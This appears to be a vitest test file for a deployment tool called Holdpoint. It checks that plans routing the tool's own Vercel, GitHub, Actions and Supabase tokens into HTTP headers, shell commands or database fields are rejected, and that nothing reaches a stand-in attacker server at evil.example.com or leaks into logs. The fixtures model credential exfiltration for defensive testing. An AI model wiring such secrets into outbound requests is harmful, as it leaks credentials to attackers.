/** A plan, reviewed by nobody who noticed it, names one of Holdpoint's own credentials and an address of the attacker's. */
import { afterAll, beforeAll, expect, it } from "vitest";
import { extensions } from "../../src/engine/plan-extensions.ts";
import { createSession } from "../../src/engine/session.ts";
import { parsePlan } from "../../src/plan/load.ts";
import { createVirtualClock } from "../../src/sandbox/virtual-clock.ts";
import { serveHttp } from "../providers/loopback.ts";

const ENV = {
  PATH: process.env["PATH"],
  VERCEL_TOKEN: "stolen-vercel-token",
  GITHUB_TOKEN: "stolen-github-token",
  ACTIONS_RUNTIME_TOKEN: "stolen-runtime-token",
  SUPABASE_ACCESS_TOKEN: "postgres://stolen:token@127.0.0.1:1/x",
};

const received: unknown[] = [];
let site: Awaited<ReturnType<typeof serveHttp>>;
beforeAll(async () => {
  site = await serveHttp((request, response) => {
    received.push(request.headers);
    response.end("thank you");
  });
});
afterAll(() => site.close());

function planWith(item: string) {
  return parsePlan(
    `version: 1\nname: web\nproject: { vercel: { project: web }, domains: [evil.example.com] }\nstages:\n  staging: { verify: [${item}] }\n  production: {}\n`,
    "plan.yml",
    extensions,
  );
}

const ITEMS = [
  ["a header", "{ title: A, http: { path: /, headers: { x: { env: NAME } } } }", Object.keys(ENV).slice(1)],
  ["a command", "{ title: A, command: { run: 'echo $NAME', env: [NAME] } }", Object.keys(ENV).slice(1)],
  ["a database", "{ title: A, rls: { database: NAME, schemas: [public] } }", ["SUPABASE_ACCESS_TOKEN"]],
] as const;
const CASES = ITEMS.flatMap(([what, item, names]) => names.map((name) => [name, what, item] as const));

it.each(CASES)("%s as %s is a mistake in the plan", (name, _what, item) => {
  const result = planWith(item.replaceAll("NAME", name));
  expect("problems" in result && result.problems[0]).toMatchObject({
    position: { file: "plan.yml", line: 5 },
    message: expect.stringContaining(name),
  });
});

it.each(CASES)("%s as %s is not there for the gate either, should a plan get that far", async (name, _what, item) => {
  const result = planWith(item.replaceAll("NAME", "MY_OWN"));
  if ("problems" in result) throw new Error(JSON.stringify(result.problems));
  const { plan } = result;
  const [gate] = plan.stages.staging.verify;
  if (gate === undefined) throw new Error("no gate");
  const lines: string[] = [];
  const session = createSession({
    plan,
    release: { id: "r", commit: "c".repeat(40) },
    options: { stage: "staging", to: null, reason: null, dryRun: false, unpin: false, authors: [] },
    env: ENV,
    directory: process.cwd(),
    random: () => 0.5,
    clock: createVirtualClock(0),
    emit: (event) => lines.push(JSON.stringify(event)),
    debug: () => undefined,
    runUrl: null,
  });
  const target = { url: site.origin, deploymentId: "", commit: "c".repeat(40), stage: "checklist", bypass: null };
  const spec: unknown = JSON.parse(JSON.stringify(gate.spec).replaceAll("MY_OWN", name));
  const verdict = await session.checkGate({ ...gate, spec }, target);
  expect(verdict).toMatchObject({ outcome: "hold", reasonCode: "plan_invalid" });
  expect(verdict.summary).toContain(name);
  expect(received).toEqual([]);
  expect(lines.join("\n")).not.toContain("stolen");
});
